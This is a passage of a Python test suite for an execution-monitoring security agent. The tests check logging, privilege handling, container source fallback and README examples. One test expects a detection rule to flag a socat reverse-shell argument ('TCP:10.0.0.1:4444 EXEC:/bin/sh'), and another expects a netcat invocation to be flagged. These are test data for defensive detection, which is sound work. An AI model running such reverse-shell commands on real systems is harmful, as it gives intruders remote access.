                shift = lambda m: b"msg=audit(%d.%s:%d)" % (int(m.group(1)) + 10 * copy, m.group(2), int(m.group(3)) + 100000 * copy)
                f.write(pattern.sub(shift, data))
        def peak(path):
            code = ("import resource,subprocess,sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, "
                    "stderr=subprocess.DEVNULL, check=True); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
            return int(subprocess.check_output([sys.executable, "-c", code, BIN, "replay", path, "--emit", "events",
                                                "--host", "h", "--threads", threads]))
        for threads in ("1", "2"):
            small_kb, large_kb = peak(small), peak(large)
            # 30× the input (36 MB) may not cost more than a few MB more than 1× (1.2 MB).
            assert large_kb < small_kb + 8 * 1024, (threads, small_kb, large_kb)


def fatal_line(stderr):
    """The one line of a start that ended with an error."""
    lines = stderr.decode(errors="replace").splitlines()
    assert len(lines) == 1, lines
    return lines[0]


def test_a_configuration_error_that_stops_the_start_is_logged_at_err_with_a_guess():
    with tempfile.TemporaryDirectory() as d:
        config = os.path.join(d, "agent.yaml")
        with open(config, "w") as f:
            f.write("forward:\n  tokenFil: /etc/execwatch/agent.token\n")
        proc = run("run", "--config", config, check_status=2)
    line = fatal_line(proc.stderr)
    # <3>: journalctl -p err shows it (it was <6>, info).
    assert line.startswith(f"<3>execwatch: {config}:2:3: unknown key \"forward.tokenFil\"; "
                           "did you mean \"forward.tokenFile\"? known keys: "), line


def test_commands_run_by_an_unprivileged_user_send_nothing_to_syslog():
    """libdispatch's pool monitor asks for nice -4; refused, it used to syslog "Failed to set
    thread priority" from every command a service account ran (seen in the journal under
    systemd). Neither program uses syslog otherwise: no connect to /dev/log at all."""
    if os.geteuid() != 0 or shutil.which("strace") is None or shutil.which("setpriv") is None:
        raise AssertionError("needs root, strace and setpriv (scripts/install-deps.sh test)")
    collector = os.path.join(os.path.dirname(BUILT), "execwatch-collector")
    assert os.access(collector, os.X_OK), f"{collector}: build execwatch-collector first"
    d = tempfile.mkdtemp(prefix="execwatch-syslog-")
    try:
        os.chmod(d, 0o755)
        for program, args in [(BUILT, ["incidents", "--state-dir", os.path.join(d, "none")]),
                              (collector, ["incidents", "--config", "/dev/null"])]:
            copy = os.path.join(d, os.path.basename(program))
            shutil.copy2(program, copy)
            os.chmod(copy, 0o755)
            trace = os.path.join(d, os.path.basename(program) + ".trace")

            def connects(**setting):
                env = {k: v for k, v in os.environ.items() if k != "LIBDISPATCH_LOG"}
                env.update(setting)
                proc = subprocess.run(["strace", "-f", "-qq", "-e", "trace=connect", "-o", trace,
                                       "setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", copy, *args],
                                      capture_output=True, env=env, cwd="/")
                assert proc.returncode != 0, proc  # no journal / no store: it stops with an error
                assert b"thread priority" not in proc.stderr, proc.stderr
                return open(trace).read()

            # The control: asked for, libdispatch's log is there, so the trace would show it. The
            # monitor thread races the command's exit, so a run may end before it logs (on a loaded
            # machine ten tries once all lost the race): at most thirty tries. Then several runs
            # without the setting, none of which may log.
            assert any("/dev/log" in connects(LIBDISPATCH_LOG="syslog") for _ in range(30)), program
            for _ in range(3):
                assert "/dev/log" not in connects(), program
    finally:
        shutil.rmtree(d, True)


def test_an_unknown_source_lists_the_valid_ones():
    proc = run("run", "--source", "audit", check_status=2)
    line = fatal_line(proc.stderr)
    assert line == ("<3>execwatch: --source: unknown source \"audit\"; expected one of auto, ebpf, audit-unicast, "
                    "audit-multicast, audisp, proc-connector, proc-poll"), line


def test_log_lines_carry_no_escape_sequences_and_stay_one_line():
    # A configured value reaches the log as written: an escape sequence or a line break in it
    # is written escaped, not passed to the terminal or the log file.
    with tempfile.TemporaryDirectory() as d:
        log = os.path.join(d, "stderr.log")
        with open(log, "wb") as f:
            proc = subprocess.run([BIN, "run", "--source", "\x1b[31maudit\nfake line"], stderr=f)
        assert proc.returncode == 2, proc.returncode
        with open(log, "rb") as f:
            data = f.read()
    assert b"\x1b" not in data, data
    assert data.count(b"\n") == 1 and data.startswith(b"<3>"), data
    assert b'unknown source "\\x1b[31maudit\\x0afake line"' in data, data


def test_under_journald_a_line_does_not_name_the_program_twice():
    # journald prefixes every line with the program's name; systemd tells a service that its
    # stderr is the journal by JOURNAL_STREAM=device:inode. Elsewhere the name leads the line.
    with tempfile.TemporaryDirectory() as d:
        log = os.path.join(d, "stderr.log")
        with open(log, "wb") as f:
            st = os.fstat(f.fileno())
            env = dict(os.environ, JOURNAL_STREAM=f"{st.st_dev}:{st.st_ino}")
            proc = subprocess.run([BIN, "run", "--source", "audit"], stderr=f, env=env)
        assert proc.returncode == 2, proc.returncode
        with open(log, "rb") as f:
            under_journald = f.read().decode()
    assert under_journald.startswith("<3>--source: unknown source"), under_journald
    # An inherited variable that is not this stream's changes nothing.
    env = dict(os.environ, JOURNAL_STREAM="1:1")
    elsewhere = subprocess.run([BIN, "run", "--source", "audit"], capture_output=True, env=env).stderr.decode()
    assert elsewhere.startswith("<3>execwatch: --source: unknown source"), elsewhere


def test_a_missing_token_file_is_exit_2_before_audit_is_touched():
    sys.path.insert(0, os.path.join(ROOT, "Tests", "lib"))
    from host_tests import AuditLock, audit_state
    assert os.geteuid() == 0, "needs root (audit-unicast)"
    with tempfile.TemporaryDirectory() as d, AuditLock():
        config = os.path.join(d, "agent.yaml")
        missing = os.path.join(d, "no-such.token")
        with open(config, "w") as f:
            f.write(f"forward:\n  url: http://127.0.0.1:9\n  tokenFile: {missing}\n"
                    "audit:\n  key: execwatch-cli-test\n")
        before = audit_state()
        status_before = subprocess.run(["auditctl", "-s"], capture_output=True, text=True).stdout
        proc = subprocess.run([BIN, "run", "--config", config, "--source", "audit-unicast",
                               "--state-dir", os.path.join(d, "state"), "--status-socket", os.path.join(d, "sock"),
                               "--rules", RULES], capture_output=True, timeout=60)
        after = audit_state()
        status_after = subprocess.run(["auditctl", "-s"], capture_output=True, text=True).stdout
    err = proc.stderr.decode(errors="replace")
    assert proc.returncode == 2, (proc.returncode, err)
    assert "forward.tokenFile" in err and missing in err, err
    # The forwarder's files are read before the source is chosen: audit was never taken.
    assert "capturing executions" not in err, err
    assert [l for l in err.splitlines() if "forward.tokenFile" in l][0].startswith("<3>"), err
    assert before == after, (before, after)
    volatile = ("lost ", "backlog ", "backlog_wait_time_actual ")
    keep = lambda text: [l for l in text.splitlines() if not l.startswith(volatile)]
    assert keep(status_before) == keep(status_after), (status_before, status_after)


def raised_priority_workers(pid):
    """libdispatch worker threads of the user-initiated and user-interactive pools: each raised
    (or, without CAP_SYS_NICE, failed to raise) its priority. Threads are named after the end of
    their pool's label: com.apple.root.user-initiated-qos → "r-initiated-qos"."""
    names = []
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{task}/comm") as f:
                names.append(f.read().strip())
        except FileNotFoundError:
            pass
    return [n for n in names if n.endswith(("initiated-qos", "interactive-qos", "initiated-qos.overcommit"))]


def test_a_start_without_cap_sys_nice_runs_its_work_at_the_default_priority():
    # As the packaged unit runs it: no CAP_SYS_NICE. The agent's work ran at user-initiated
    # priority (an async main's, on Linux): every libdispatch worker running it tried nice -2 and
    # logged "Failed to set thread priority for worker thread … errno=13" (to syslog;
    # LIBDISPATCH_LOG=stderr puts it where this test reads). libdispatch's own event manager
    # thread still asks for nice -4: the unit's LimitNICE=-4 allows that one.
    assert os.geteuid() == 0, "needs root (setpriv)"
    with open(os.path.join(ROOT, "packaging/systemd/execwatch.service")) as f:
        assert "\nLimitNICE=-4\n" in f.read()
    with tempfile.TemporaryDirectory() as d:
        env = dict(os.environ, LIBDISPATCH_LOG="stderr")
        sock = os.path.join(d, "sock")
        config = os.path.join(d, "agent.yaml")
        with open(config, "w") as f:
            f.write("metrics:\n  listen: off\n")
        agent = subprocess.Popen(["setpriv", "--bounding-set=-sys_nice", "--inh-caps=-sys_nice",
                                  BIN, "run", "--source", "proc-poll", "--config", config,
                                  "--state-dir", os.path.join(d, "state"), "--status-socket", sock, "--rules", RULES],
                                 stderr=subprocess.PIPE, env=env)
        try:
            deadline = time.time() + 60
            while not os.path.exists(sock):
                assert agent.poll() is None and time.time() < deadline, "the agent did not start"
                time.sleep(0.1)
            for _ in range(20):
                subprocess.run(["true"])
            status = subprocess.run([BIN, "status", "--socket", sock], capture_output=True)
            assert status.returncode == 0, status.stderr
            time.sleep(1)
            raised = raised_priority_workers(agent.pid)
        finally:
            agent.terminate()
            err = agent.communicate(timeout=30)[1].decode(errors="replace")
    assert agent.returncode == 0, err
    assert "capturing executions" in err, err
    assert raised == [], (raised, err)
    assert err.count("Failed to set thread priority") <= 1, err


def readme_block(marker):
    """A ```sh block of README.md: from the line holding `marker` to the block's end when the
    marker is inside one, else the whole block after the marker."""
    with open(os.path.join(ROOT, "README.md")) as f:
        text = f.read()
    at = text.index(marker)
    if text.rfind("```sh\n", 0, at) > text.rfind("\n```\n", 0, at):
        start = text.rindex("\n", 0, at) + 1
    else:
        start = text.index("```sh\n", at) + len("```sh\n")
    return text[start:text.index("\n```\n", start) + 1]


def run_readme_block(script, cwd, env=None, timeout=120):
    """Runs a README block with bash as a user would paste it; background jobs it left (agents,
    collectors) get SIGTERM when it ends, and are waited for."""
    wrapped = "cleanup() { kill $(jobs -p) 2>/dev/null; wait; }\ntrap cleanup EXIT\n" + script
    return subprocess.run(["bash", "-c", wrapped], cwd=cwd, env=env, capture_output=True, timeout=timeout)


def free_port():
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run_agent_in_a_pid_namespace(prefix):
    """Runs the agent with `auto` in a new PID namespace (as in a container) until its source
    runs; returns its status and what it logged."""
    import signal
    with tempfile.TemporaryDirectory() as d:
        sock = os.path.join(d, "agent.sock")
        config = os.path.join(d, "agent.yaml")
        with open(config, "w") as f:
            f.write("metrics:\n  listen: off\n")
        agent = subprocess.Popen([*prefix, "unshare", "--pid", "--fork", "--mount-proc", "--kill-child=SIGTERM",
                                  BIN, "run", "--config", config, "--state-dir", os.path.join(d, "state"),
                                  "--status-socket", sock, "--rules", RULES],
                                 stderr=subprocess.PIPE, start_new_session=True)
        try:
            status = subprocess.run([BIN, "status", "--json", "--wait", "60", "--socket", sock], capture_output=True)
            assert status.returncode == 0, status.stderr
            status = json.loads(status.stdout)
        finally:
            os.killpg(agent.pid, signal.SIGTERM)
            err = agent.communicate(timeout=30)[1].decode(errors="replace")
    return status, err


def test_auto_in_a_container_names_the_namespace_and_falls_back_to_a_source_that_delivers():
    # Another PID namespace, as in a container: audit refuses every request and the proc connector
    # sets up but the kernel ignores its listen request, so it delivers nothing. `auto` checks
    # that a source shows its own probe exec before using it, and says why it passed one over.
    # Most containers lack CAP_BPF and CAP_PERFMON, so eBPF is unavailable too (without those two
    # capabilities here); a privileged one has them, and eBPF delivers: it is not namespaced, its
    # events carry the host's pids, and the probe is known by its argument.
    status, err = run_agent_in_a_pid_namespace([])
    assert status["source"] == "ebpf" and status["sourceRunning"] is True, status
    status, err = run_agent_in_a_pid_namespace(["setpriv", "--bounding-set=-bpf,-perfmon"])
    assert status["source"] == "proc-poll" and status["sourceRunning"] is True, status
    reason = status["sourceReason"]
    assert "not in the host's initial PID namespace (a container)" in reason, reason
    assert "CONFIG_AUDIT" not in reason and "Operation not permitted" not in reason, reason
    assert "(passed over: ebpf cannot be used: " in reason, reason
    assert ("; proc-connector delivers no executions: the probe's exec was not seen within 2 s; this "
            "process is not in the host's initial PID namespace (a container), whose listen request the kernel "
            "ignores") in reason, reason
    assert "<4>execwatch: source proc-connector delivers no executions" in err, err


def test_make_run_names_a_busy_port_and_its_setting_before_building():
    import socket
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        script = os.path.join(ROOT, "scripts", "run-local.sh")
        for setting, what in [("RUN_PORT", "the collector"), ("RUN_METRICS_PORT", "the agent's metrics")]:
            env = dict(os.environ, RUN_PORT=str(free_port()), RUN_METRICS_PORT=str(free_port()))
            env[setting] = str(port)
            started = time.time()
            # SWIFT=false: a build would fail at once, so reaching it shows the check came too late.
            proc = subprocess.run([script], env=dict(env, SWIFT="false"), capture_output=True, timeout=60)
            err = proc.stderr.decode()
            assert proc.returncode == 1, (proc.returncode, err)
            assert err.strip().splitlines()[-1] == (f"[make run] ERROR: port {port} on 127.0.0.1 ({what}) is already "
                                                    f"in use by python3; pick a free one: {setting}=PORT make run"), err
            assert "installing" not in err and "building" not in err, err
            assert time.time() - started < 10


def test_readme_rules_test_example_makes_an_incident_as_written():
    block = readme_block("cat > my-rule.xml")
    assert "my-rule.xml" in block and "rules test" in block, block
    env = dict(os.environ, PATH=os.path.dirname(BIN) + ":" + os.environ["PATH"])
    with tempfile.TemporaryDirectory() as d:
        proc = run_readme_block(block, d, env=env)
        err = proc.stderr.decode()
        assert proc.returncode == 0, (proc.returncode, err)
        assert "0 error(s), 0 warning(s)" in proc.stdout.decode(), proc.stdout
        incidents = [line for line in proc.stdout.decode().splitlines() if line.startswith("{")]
        assert len(incidents) == 1, proc.stdout
        incident = json.loads(incidents[0])
        assert incident["ruleId"] == "LOCAL_Socat_Shell", incident
        assert incident["attributes"]["swParam"] == "TCP:10.0.0.1:4444 EXEC:/bin/sh", incident
        assert "1 incidents" in err, err


def readme_host_snippet(marker, d, port):
    """A README snippet that starts an agent, with this build's binaries, `d` for /tmp and a free
    port for the collector's 8443."""
    collector = os.path.join(os.path.dirname(BUILT), "execwatch-collector")
    assert os.access(collector, os.X_OK), f"{collector}: build execwatch-collector first"
    block = readme_block(marker)
    assert "status --wait" in block, block
    block = block.replace("/tmp/", d + "/").replace("8443", str(port))
    return block.replace(".build/release/execwatch-collector", collector).replace(".build/release/execwatch", BIN)


def test_readme_snippets_watch_this_host_and_forward_see_the_first_nc():
    sys.path.insert(0, os.path.join(ROOT, "Tests", "lib"))
    from host_tests import AuditLock, audit_state
    assert os.geteuid() == 0, "needs root (the agent's auto source takes audit)"
    with AuditLock():
        before = audit_state()
        with tempfile.TemporaryDirectory() as d:
            watch = run_readme_block(readme_host_snippet("# Watch this host", d, free_port()), d)
            out, err = watch.stdout.decode(), watch.stderr.decode()
            # status found the socket at once, and the very first `nc -h` made an incident.
            assert "cannot get status" not in err, err
            assert re.search(r"^sourceRunning:\s+true$", out, re.M), out
            assert "PH_Rule_TH_Linux_23" in out and re.search(r"\snc\s+-h\s", out), out
        with tempfile.TemporaryDirectory() as d:
            port = free_port()
            forward = run_readme_block(readme_host_snippet("Forwarding to a collector", d, port), d)
            out, err = forward.stdout.decode(), forward.stderr.decode()
            assert "PH_Rule_TH_Linux_23" in out and os.uname().nodename in out, (out, err)
            assert re.search(r"\snc\s+-h\s", out), out
        after = audit_state()
    assert after == before, (before, after)


def main():
    tests = [(name, fn) for name, fn in sorted(globals().items()) if name.startswith("test_") and callable(fn)]
    passed = failed = 0
    for name, fn in tests:
        try:
            fn()
            passed += 1
            print(f"ok   {name}")
        except Exception:
            failed += 1
            print(f"FAIL {name}")
            traceback.print_exc()
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
